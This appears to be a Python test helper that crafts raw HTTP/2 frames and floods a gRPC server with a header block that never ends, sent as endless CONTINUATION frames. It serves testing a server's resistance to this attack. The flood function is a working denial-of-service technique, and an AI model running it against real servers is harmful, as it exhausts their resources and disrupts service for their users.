"""HTTP/2 by hand, for the hostile clients of the tests: frames, a gRPC call's header
block, and a header block without end."""

from __future__ import annotations

import contextlib
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS, GOAWAY, CONTINUATION = 0x1, 0x4, 0x7, 0x9


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
    )


def header_block(path: str) -> bytes:
    """A gRPC call to ``path``: HPACK literals without indexing, no Huffman coding."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]
    out = b""
    for name, value in fields:
        out += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return out


def open_header_block(sock: socket.socket, path: str) -> None:
    """Send the preface, SETTINGS and a call's HEADERS on stream 1 without END_HEADERS:
    the header block goes on in CONTINUATION frames (``flood_header_block``)."""
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, header_block(path)))


def flood_header_block(socks: list[socket.socket], mib: int, seconds: float) -> int:
    """CONTINUATION frames of 16 KiB (the largest frame every peer must take) on each of
    ``socks``, in turn, until ``seconds`` or ``mib`` MiB have been sent in all or a
    connection is cut. Legal HTTP/2 without end, which gRPC parses as it comes and never
    refuses. Returns the bytes sent."""
    chunk = frame(CONTINUATION, 0, 1, bytes(16 << 10)) * 64  # 1 MiB
    sent = 0
    until = time.monotonic() + seconds
    with contextlib.suppress(OSError):
        while time.monotonic() < until and sent < mib << 20:
            for sock in socks:
                sock.sendall(chunk)
                sent += len(chunk)
    return sent
